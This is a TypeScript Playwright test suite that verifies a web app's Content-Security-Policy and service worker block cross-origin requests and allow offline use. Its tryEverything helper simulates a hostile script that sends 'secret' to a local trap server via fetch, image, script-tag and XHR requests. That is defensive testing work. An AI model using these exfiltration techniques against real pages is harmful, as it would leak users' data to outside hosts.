import { once } from 'node:events';
import { rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  voyageAnswer,
  voyageDocuments,
  voyageQuestion,
  writeDocuments,
} from '../e2e/harness/own-documents.ts';
import { ProductPage } from '../e2e/harness/product-page.ts';
import { serveStatic } from '../e2e/harness/serve-static.ts';
import { closed, portOf } from '../kit/stand-in-web.ts';
import { launchBrowser } from './harness/launch-browser.ts';
import { serveBuilt } from './harness/serve-built.ts';

let browser: Browser;
let trapped: string[] = [];
/** Another origin, which answers whoever asks it, and notes that it was asked. */
const trap = createServer((request, response) => {
  trapped.push(`${request.method} ${request.url}`);
  response.writeHead(200, {
    'access-control-allow-origin': '*',
    'cross-origin-resource-policy': 'cross-origin',
    'content-type': 'text/javascript',
  });
  response.end('globalThis.caught = true;');
});
let trapOrigin = '';

beforeAll(async () => {
  trap.listen(0, '127.0.0.1');
  await once(trap, 'listening');
  trapOrigin = `http://127.0.0.1:${portOf(trap)}`;
  browser = await launchBrowser();
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
  trapped = [];
});
afterAll(async () => {
  await browser.close();
  await closed(trap);
});

/** The page, with its worker in charge: it is from the second visit on. */
async function visited(context: BrowserContext, address: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(address);
  await page.locator('h1').first().waitFor();
  // Bounded, unlike serviceWorker.ready, which never settles where the worker cannot be installed.
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  await page.waitForFunction(async () => {
    const kept = await (await caches.open('reroute-mode')).keys();
    return kept.length > 0;
  });
  await page.reload();
  await page.locator('h1').first().waitFor();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  return page;
}

/** What a hostile script in the page would try. */
async function tryEverything(page: Page, origin: string): Promise<void> {
  await page.evaluate(async (to) => {
    const tries = [
      fetch(`${to}/fetch`),
      fetch(`${to}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
      new Promise((resolve) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = resolve;
        image.src = `${to}/image.gif?secret`;
      }),
      new Promise((resolve) => {
        const script = document.createElement('script');
        script.onload = resolve;
        script.onerror = resolve;
        script.src = `${to}/script.js`;
        document.head.append(script);
      }),
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = resolve;
        request.open('POST', `${to}/xhr`);
        request.send('secret');
      }),
    ];
    await Promise.allSettled(tries);
  }, origin);
}

describe('the Content-Security-Policy alone, without the worker and with a script in the page', () => {
  it('lets nothing reach another origin', async () => {
    const served = await serveBuilt(new AbortController().signal);
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(served.address);
    await page.locator('h1').first().waitFor();
    await tryEverything(page, trapOrigin);
    expect(trapped).toEqual([]);
    await served.close();
  });
});

describe('the service worker alone, without the Content-Security-Policy', () => {
  it('lets nothing reach another origin, in any mode', async () => {
    const served = await serveStatic();
    const page = await visited(await browser.newContext(), served.address);
    await tryEverything(page, trapOrigin);
    expect(trapped).toEqual([]);
    served.close();
  });

  it('lets nothing through to the server’s doors where the mode is air-gapped', async () => {
    const served = await serveBuilt(new AbortController().signal);
    const page = await visited(await browser.newContext(), served.address);
    const ask = () =>
      page.evaluate(async () => {
        const reply = await fetch('api/sources');
        return { status: reply.status, text: await reply.text() };
      });
    expect((await ask()).text).not.toContain('service worker');
    await page.goto(`${served.address}#/sources`);
    await page.getByText('Air-gapped', { exact: true }).first().click();
    await expect.poll(async () => (await ask()).text).toContain('service worker');
    await served.close();
  });
});

describe('the page without its server', () => {
  it.each([
    ['its own server', () => serveBuilt(new AbortController().signal)],
    ['a static host, on which its workers share memory from the second visit on', serveStatic],
  ])('opens after the first visit to %s, and answers from the library', async (_, serve) => {
    const served = await serve();
    const folder = await writeDocuments(voyageDocuments);
    const page = await visited(await browser.newContext(), served.address);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    const product = new ProductPage(page, served.address);
    await product.addFiles(folder);
    await product.imported(/documents added/);
    await served.close();
    await page.reload();
    await product.ask(voyageQuestion);
    expect(await product.answer.textContent()).toContain(voyageAnswer);
    await rm(folder, { recursive: true });
  });
});
